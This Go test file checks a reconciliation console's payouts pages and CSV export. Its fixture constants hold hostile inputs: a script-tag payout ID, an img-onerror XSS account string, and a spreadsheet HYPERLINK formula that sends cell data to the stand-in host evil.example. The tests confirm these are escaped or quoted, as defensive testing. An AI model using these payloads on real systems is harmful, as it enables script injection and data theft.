package console_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/reconcilekit/reconcile"
	"github.com/reconcilekit/reconcile/adapters/memstore"
	"github.com/reconcilekit/reconcile/adapters/pgstore"
	"github.com/reconcilekit/reconcile/console"
	"github.com/reconcilekit/reconcile/internal/pgtest"
	"github.com/reconcilekit/reconcile/tieout"
)

// Hostile payout values, as a careless or malicious upstream could send them.
const (
	hostilePayoutID = `po_<script>alert("po")</script>`
	hostileStatus   = `=HYPERLINK("http://evil.example/?"&A1,"paid")`
	hostileAccount  = `acct_"><img src=x onerror=alert(1)>`
)

// payoutStore is what the payouts pages read: a Reviewer that records and reads groups.
type payoutStore interface {
	reconcile.Reviewer
	reconcile.LaneSink
	reconcile.GroupReader
}

// payoutLister lists its groups (and pending ones) in one page, each one's members in one.
type payoutLister struct {
	groups, pending []tieout.Group
	members         map[string][]tieout.Member
}

func (l payoutLister) Groups(context.Context, string) (tieout.GroupPage, error) {
	return tieout.GroupPage{Groups: l.groups, Pending: l.pending, Next: "end", End: true}, nil
}

func (l payoutLister) Members(_ context.Context, g tieout.Group, _ string) (tieout.MemberPage, error) {
	return tieout.MemberPage{Members: l.members[g.ID]}, nil
}

func paidPayout(id, account string, amount int64) tieout.Group {
	return tieout.Group{ID: id, Account: account, Status: "paid", State: tieout.GroupPaid, Amount: amount, Currency: "usd", Itemized: true}
}

func chargeLine(id, pi string, amount int64) tieout.Member {
	return tieout.Member{ID: id, Type: "charge", Kind: tieout.KindPayment, SourceID: "ch_" + id, BookedID: pi, Amount: amount,
		Net: amount, Currency: "usd", SourceAmount: amount, SourceCurrency: "usd"}
}

// payoutWorld is a store holding one tie-out step of job "payouts" and a console over it:
//   - po_held pays USD 10.00, its one line booked: it holds;
//   - po_short pays USD 12.00, its lines add up to USD 11.50, one of them not booked;
//   - po_acct, of acct_1, pays USD 5.00 and holds;
//   - po_wait is in transit, not tied out yet;
//   - the hostile payout has a script for an id, a formula for a status, a key in its line.
type payoutWorld struct {
	store payoutStore
	srv   *httptest.Server
	seq   map[string]int64 // record number by payout id
}

func newPayoutWorld(t *testing.T, kind string, mod func(*console.Config)) *payoutWorld {
	t.Helper()
	ctx := context.Background()
	w := &payoutWorld{seq: map[string]int64{}}
	switch kind {
	case "pgstore":
		pool := pgtest.Pool(t)
		if _, err := pool.Exec(ctx, paymentsDDL); err != nil {
			t.Fatal(err)
		}
		if err := pgstore.Migrate(ctx, pool, pgstore.Tables{}); err != nil {
			t.Fatal(err)
		}
		s, err := pgstore.New(pool, pgstore.Config{Table: "payments"})
		if err != nil {
			t.Fatal(err)
		}
		w.store = s
	default:
		w.store = memstore.New[string, string](memstore.Options{})
	}
	hostile := paidPayout(hostilePayoutID, hostileAccount, 100)
	hostile.Status = hostileStatus + " " + leakedKey // a key a broken upstream echoed
	pending := paidPayout("po_wait", "", 700)
	pending.Status, pending.State = "in_transit", tieout.GroupPending
	lister := payoutLister{
		groups: []tieout.Group{paidPayout("po_held", "", 1000), paidPayout("po_short", "", 1200), paidPayout("po_acct", "acct_1", 500), hostile},
		members: map[string][]tieout.Member{
			"po_held":       {chargeLine("txn_h", "pi_h", 1000)},
			"po_short":      {chargeLine("txn_s1", "pi_s1", 1000), chargeLine("txn_s2", "pi_unbooked", 150)},
			"po_acct":       {chargeLine("txn_a", "pi_a", 500)},
			hostilePayoutID: {{ID: "txn_x", Type: "charge " + leakedKey, SourceID: "ch_x", Amount: 100, Net: 100, Currency: "usd"}},
		},
		pending: []tieout.Group{pending},
	}
	var ledger tieout.MemoryLedger
	ledger.Book(
		tieout.Booked{Kind: tieout.KindPayment, ID: "pi_h", Amount: 1000, Currency: "usd", Basis: tieout.Presentment},
		tieout.Booked{Kind: tieout.KindPayment, ID: "pi_s1", Amount: 1000, Currency: "usd", Basis: tieout.Presentment},
		tieout.Booked{Kind: tieout.KindPayment, ID: "pi_a", Amount: 500, Currency: "usd", Basis: tieout.Presentment},
	)
	step, err := tieout.NewStep(tieout.StepConfig{Job: "payouts", Lane: "tieout", Lister: lister, Ledger: &ledger, Sink: w.store})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := step.RunBatch(ctx); err != nil {
		t.Fatal(err)
	}
	recs, err := w.store.ListGroups(ctx, reconcile.GroupQuery{})
	if err != nil || len(recs) != 5 {
		t.Fatalf("records = %+v, %v; want 5", recs, err)
	}
	for _, r := range recs {
		w.seq[r.ID] = r.Seq
	}
	cfg := console.Config{Store: w.store, Authenticate: headerAuth, Jobs: []string{"payouts"},
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}
	if mod != nil {
		mod(&cfg)
	}
	c, err := console.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	w.srv = httptest.NewServer(c)
	t.Cleanup(w.srv.Close)
	return w
}

func (w *payoutWorld) get(t *testing.T, path, actor string) (int, http.Header, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, w.srv.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if actor != "" {
		req.Header.Set("X-Test-User", actor)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, string(b)
}

func (w *payoutWorld) page(t *testing.T, path string) string {
	t.Helper()
	status, _, body := w.get(t, path, "alice")
	if status != http.StatusOK {
		t.Fatalf("GET %s = %d:\n%s", path, status, body)
	}
	return body
}

// payoutRows returns the payout record numbers listed on a page, in order.
func payoutRows(body string) []string {
	var out []string
	for _, m := range regexp.MustCompile(`<tr id="payout-(\d+)">`).FindAllStringSubmatch(body, -1) {
		out = append(out, m[1])
	}
	return out
}

// seqs returns the record numbers of payouts ids, newest first: as the list orders them
// (within one step, the store numbers them in an order of its own).
func (w *payoutWorld) seqs(ids ...string) []string {
	var n []int64
	for _, id := range ids {
		n = append(n, w.seq[id])
	}
	slices.Sort(n)
	slices.Reverse(n)
	var out []string
	for _, s := range n {
		out = append(out, fmt.Sprint(s))
	}
	return out
}

// payoutRow returns the list's row of payout id.
func (w *payoutWorld) payoutRow(t *testing.T, body, id string) string {
	t.Helper()
	start := strings.Index(body, fmt.Sprintf(`<tr id="payout-%d">`, w.seq[id]))
	if start < 0 {
		t.Fatalf("no row for %s:\n%s", id, body)
	}
	return body[start : start+strings.Index(body[start:], "</tr>")]
}

func eachStore(t *testing.T, fn func(t *testing.T, kind string)) {
	for _, kind := range []string{"pgstore", "memstore"} {
		t.Run(kind, func(t *testing.T) {
			t.Parallel()
			fn(t, kind)
		})
	}
}

func TestThePayoutsPageShowsEachPayoutsExpectedAgainstPaidAndFilters(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, kind string) {
		w := newPayoutWorld(t, kind, nil)
		body := w.page(t, "/payouts")
		if got, want := payoutRows(body), w.seqs("po_wait", hostilePayoutID, "po_acct", "po_short", "po_held"); !slices.Equal(got, want) {
			t.Fatalf("rows %v; want %v (newest first)", got, want)
		}
		for _, want := range []string{`<strong id="p-total">5</strong>`, `<strong id="p-pending">1</strong>`, `<strong id="p-not-held">2</strong>`,
			`<a href="./payouts" id="nav-payouts">Payouts</a>`} {
			if !strings.Contains(body, want) {
				t.Errorf("the page lacks %q", want)
			}
		}
		short := w.payoutRow(t, body, "po_short")
		for _, want := range []string{
			fmt.Sprintf(`<a href="./payouts/%d">po_short</a>`, w.seq["po_short"]),
			`<td class="paid">USD 12.00</td>`, `<td class="expected">USD 11.50</td>`, `<td class="difference">USD -0.50</td>`,
			fmt.Sprintf(`<td class="unmatched"><a href="./payouts/%d">1</a></td>`, w.seq["po_short"]),
			`<span class="bad">does not hold</span>`,
		} {
			if !strings.Contains(short, want) {
				t.Errorf("po_short's row lacks %q:\n%s", want, short)
			}
		}
		if held := w.payoutRow(t, body, "po_held"); !strings.Contains(held, `<span class="ok">held</span>`) ||
			!strings.Contains(held, `<td class="difference">USD 0.00</td>`) {
			t.Errorf("po_held's row:\n%s", held)
		}
		if wait := w.payoutRow(t, body, "po_wait"); !strings.Contains(wait, "not tied out yet") || !strings.Contains(wait, `<td class="expected"><span class="muted">—</span>`) {
			t.Errorf("po_wait's row:\n%s", wait)
		}
		// The time zone form comes back to the same page.
		if body := w.page(t, "/payouts?state=pending"); !strings.Contains(body, `name="back" value="payouts?state=pending"`) {
			t.Errorf("the zone form does not come back to the payouts page")
		}
		for q, want := range map[string][]string{
			"state=pending":             {"po_wait"},
			"state=held":                {"po_acct", "po_held"},
			"state=not_held":            {hostilePayoutID, "po_short"},
			"account=acct_1":            {"po_acct"},
			"status=in_transit":         {"po_wait"},
			"job=payouts&state=pending": {"po_wait"},
		} {
			if got := payoutRows(w.page(t, "/payouts?"+q)); !slices.Equal(got, w.seqs(want...)) {
				t.Errorf("?%s lists %v; want %v", q, got, w.seqs(want...))
			}
		}
	})
}

func TestThePayoutsPagesPageByKeysetEveryPayoutOnce(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, kind string) {
		w := newPayoutWorld(t, kind, func(c *console.Config) { c.PageSize = 2 })
		var seen []string
		path := "/payouts"
		next := regexp.MustCompile(`<a href="\./(payouts\?[^"]+)" id="p-next"`)
		for range 5 {
			body := w.page(t, path)
			seen = append(seen, payoutRows(body)...)
			m := next.FindStringSubmatch(body)
			if m == nil {
				break
			}
			path = "/" + strings.ReplaceAll(m[1], "&amp;", "&")
		}
		if want := w.seqs("po_wait", hostilePayoutID, "po_acct", "po_short", "po_held"); !slices.Equal(seen, want) {
			t.Fatalf("pages listed %v; want %v", seen, want)
		}
	})
}

func TestAPayoutsPageListsItsUnmatchedLinesLinkedToTheirFindings(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, kind string) {
		w := newPayoutWorld(t, kind, nil)
		fs, err := w.store.ListFindings(context.Background(), reconcile.FindingQuery{Job: "payouts", RecordID: "txn_s2"})
		if err != nil || len(fs) != 1 {
			t.Fatalf("txn_s2's findings = %+v, %v", fs, err)
		}
		body := w.page(t, fmt.Sprintf("/payouts/%d", w.seq["po_short"]))
		for _, want := range []string{
			`<dd id="paid">USD 12.00</dd>`, `<dd id="expected">USD 11.50</dd>`, `<dd id="difference">USD -0.50</dd>`,
			`<dd id="members">2</dd>`,
			fmt.Sprintf(`<a href="../findings/%d">#%d</a>`, fs[0].ID, fs[0].ID),
			"unbooked_payment", "A payment reached a payout that the service never booked", // tieout's meaning
			fmt.Sprintf(`<tr id="line-%d">`, fs[0].ID),
		} {
			if !strings.Contains(body, want) {
				t.Errorf("po_short's page lacks %q:\n%s", want, body)
			}
		}
		// The sum mismatch is the payout's own finding, listed with its lines.
		if !strings.Contains(body, "payout_sum_mismatch") {
			t.Errorf("po_short's page lacks its sum finding")
		}
		if body := w.page(t, fmt.Sprintf("/payouts/%d", w.seq["po_held"])); !strings.Contains(body, "every line matched") {
			t.Errorf("po_held's page:\n%s", body)
		}
		if body := w.page(t, fmt.Sprintf("/payouts/%d", w.seq["po_wait"])); !strings.Contains(body, "not tied out yet: its lines are not final") {
			t.Errorf("po_wait's page:\n%s", body)
		}
		// A resolved finding leaves the page.
		if err := w.store.ResolveFinding(context.Background(), fs[0].ID, reconcile.Resolution{By: "finance", As: reconcile.ResolutionFixed, Note: "booked"}); err != nil {
			t.Fatal(err)
		}
		if body := w.page(t, fmt.Sprintf("/payouts/%d", w.seq["po_short"])); strings.Contains(body, fmt.Sprintf(`<tr id="line-%d">`, fs[0].ID)) {
			t.Errorf("a resolved finding is still listed:\n%s", body)
		}
	})
}

func TestThePayoutsCSVIsForFinanceAndFormulaSafe(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, kind string) {
		w := newPayoutWorld(t, kind, nil)
		status, header, body := w.get(t, "/payouts.csv", "alice")
		if status != http.StatusOK || !strings.HasPrefix(header.Get("Content-Type"), "text/csv") ||
			!strings.HasPrefix(header.Get("Content-Disposition"), `attachment; filename="payouts-`) {
			t.Fatalf("GET /payouts.csv = %d %v", status, header)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 6 || rows[0][0] != "job" || rows[0][6] != "paid" {
			t.Fatalf("rows = %q", rows)
		}
		by := map[string][]string{}
		for _, r := range rows[1:] {
			by[r[2]] = r
		}
		short := by["po_short"]
		if want := []string{"payouts", "", "po_short", "paid", "does not hold", "usd", "USD 12.00", "USD 11.50", "USD -0.50",
			"1200", "1150", "2", "2", "1", "false"}; !slices.Equal(short[:15], want) || short[15] == "" {
			t.Errorf("po_short = %q; want %q and a tie-out time", short, want)
		}
		if wait := by["po_wait"]; wait[7] != "" || wait[10] != "" || wait[14] != "" || wait[15] != "" {
			t.Errorf("po_wait = %q; want no expected, no held, no tie-out time", wait)
		}
		hostile := by[hostilePayoutID]
		if hostile == nil || !strings.HasPrefix(hostile[3], "'"+hostileStatus+" ") || strings.Contains(hostile[3], leakedKey) ||
			hostile[1] != hostileAccount {
			t.Errorf("hostile row = %q; want its formula status quoted as text", hostile)
		}
		for _, r := range rows {
			for _, c := range r {
				if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
					t.Errorf("cell %q could run as a formula", c)
				}
			}
		}
		// The filter applies.
		_, _, body = w.get(t, "/payouts.csv?state=pending", "alice")
		if rows, _ := csv.NewReader(strings.NewReader(body)).ReadAll(); len(rows) != 2 || rows[1][2] != "po_wait" {
			t.Errorf("pending export = %q", rows)
		}
	})
}

func TestPayoutPagesEscapeHostileValuesAndShowNoKey(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, kind string) {
		w := newPayoutWorld(t, kind, nil)
		for _, path := range []string{"/payouts", fmt.Sprintf("/payouts/%d", w.seq[hostilePayoutID]), "/payouts.csv", "/"} {
			_, _, body := w.get(t, path, "alice")
			for _, bad := range []string{`<script>alert("po")`, `<img src=x`, leakedKey} {
				if strings.Contains(body, bad) && !(path == "/payouts.csv" && bad != leakedKey) {
					t.Errorf("GET %s holds %q", path, bad)
				}
			}
		}
		body := w.page(t, fmt.Sprintf("/payouts/%d", w.seq[hostilePayoutID]))
		if !strings.Contains(body, "po_&lt;script&gt;alert(&#34;po&#34;)&lt;/script&gt;") {
			t.Errorf("the hostile id is not shown escaped:\n%s", body)
		}
		if !strings.Contains(body, "unknown_line_type") {
			t.Errorf("the hostile line's finding is not listed:\n%s", body)
		}
	})
}

func TestTheOverviewCountsPayoutsNotTiedOutAndNotHolding(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, kind string) {
		w := newPayoutWorld(t, kind, nil)
		body := w.page(t, "/")
		for _, want := range []string{
			`<a href="./payouts?state=pending" id="payouts-pending">1</a>`,
			`<a href="./payouts?state=not_held" id="payouts-not-held">2</a>`,
			`<a href="./payouts" id="payouts-total">5</a>`,
		} {
			if !strings.Contains(body, want) {
				t.Errorf("the overview lacks %q:\n%s", want, body)
			}
		}
	})
	// A store that records no payouts: no section, no link, and its payouts pages are 404s.
	c, err := console.New(console.Config{Store: &memReviewer{}, Authenticate: headerAuth})
	if err != nil {
		t.Fatal(err)
	}
	if rec := serve(c, http.MethodGet, "/", "alice"); strings.Contains(rec.Body.String(), "payouts") {
		t.Errorf("an overview without payouts mentions them:\n%s", rec.Body.String())
	}
	for _, path := range []string{"/payouts", "/payouts/1", "/payouts.csv"} {
		if rec := serve(c, http.MethodGet, path, "alice"); rec.Code != http.StatusNotFound {
			t.Errorf("GET %s without payouts = %d; want 404", path, rec.Code)
		}
	}
}

func TestPayoutPagesNeedASignInAndCheckTheirParameters(t *testing.T) {
	t.Parallel()
	w := newPayoutWorld(t, "memstore", nil)
	for _, path := range []string{"/payouts", "/payouts/1", "/payouts.csv"} {
		if status, _, body := w.get(t, path, ""); status != http.StatusForbidden || strings.Contains(body, "po_") {
			t.Errorf("GET %s signed out = %d:\n%s", path, status, body)
		}
	}
	for path, want := range map[string]int{
		"/payouts?state=bogus":                         http.StatusBadRequest,
		"/payouts?account=%00":                         http.StatusBadRequest,
		"/payouts?status=" + leakedKey:                 http.StatusBadRequest,
		"/payouts?job=other":                           http.StatusBadRequest,
		"/payouts?before=-1":                           http.StatusBadRequest,
		"/payouts?account=" + strings.Repeat("a", 201): http.StatusBadRequest,
		"/payouts.csv?state=bogus":                     http.StatusBadRequest,
		"/payouts/0":                                   http.StatusBadRequest,
		"/payouts/x":                                   http.StatusBadRequest,
		"/payouts/99999":                               http.StatusNotFound,
	} {
		if status, _, body := w.get(t, path, "alice"); status != want || strings.Contains(body, leakedKey) {
			t.Errorf("GET %s = %d; want %d", path, status, want)
		}
	}
	// A payout of a job that is not the console's is not found.
	other := newPayoutWorld(t, "memstore", func(c *console.Config) { c.Jobs = []string{"sweep"} })
	if status, _, _ := other.get(t, fmt.Sprintf("/payouts/%d", other.seq["po_held"]), "alice"); status != http.StatusNotFound {
		t.Errorf("a payout of another job = %d; want 404", status)
	}
	if rows := payoutRows(other.page(t, "/payouts")); len(rows) != 0 {
		t.Errorf("payouts of another job listed: %v", rows)
	}
}

// failingGroups is a store whose group reads fail with a text that must not reach a page.
type failingGroups struct{ memReviewer }

var errGroups = fmt.Errorf("pgstore: list groups: ERROR: relation reconcile_groups does not exist; key %s", leakedKey)

func (*failingGroups) ListGroups(context.Context, reconcile.GroupQuery) ([]reconcile.GroupRecord, error) {
	return nil, errGroups
}
func (*failingGroups) Group(context.Context, int64) (reconcile.GroupRecord, error) {
	return reconcile.GroupRecord{}, errGroups
}
func (*failingGroups) CountGroups(context.Context, reconcile.GroupQuery) (reconcile.GroupCounts, error) {
	return reconcile.GroupCounts{}, errGroups
}

func TestAFailingPayoutsReadIsA500WithoutItsText(t *testing.T) {
	t.Parallel()
	c, err := console.New(console.Config{Store: &failingGroups{}, Authenticate: headerAuth,
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/payouts", "/payouts/1"} {
		rec := serve(c, http.MethodGet, path, "alice")
		if rec.Code != http.StatusInternalServerError || strings.Contains(rec.Body.String(), "reconcile_groups") ||
			strings.Contains(rec.Body.String(), leakedKey) {
			t.Errorf("GET %s = %d:\n%s", path, rec.Code, rec.Body.String())
		}
	}
	rec := serve(c, http.MethodGet, "/payouts.csv", "alice")
	if body := rec.Body.String(); !strings.Contains(body, "export failed") || strings.Contains(body, "reconcile_groups") || strings.Contains(body, leakedKey) {
		t.Errorf("GET /payouts.csv:\n%s", body)
	}
	rec = serve(c, http.MethodGet, "/", "alice")
	if body := rec.Body.String(); rec.Code != http.StatusOK || !strings.Contains(body, "The payouts could not be counted") || strings.Contains(body, leakedKey) {
		t.Errorf("GET / = %d:\n%s", rec.Code, body)
	}
}
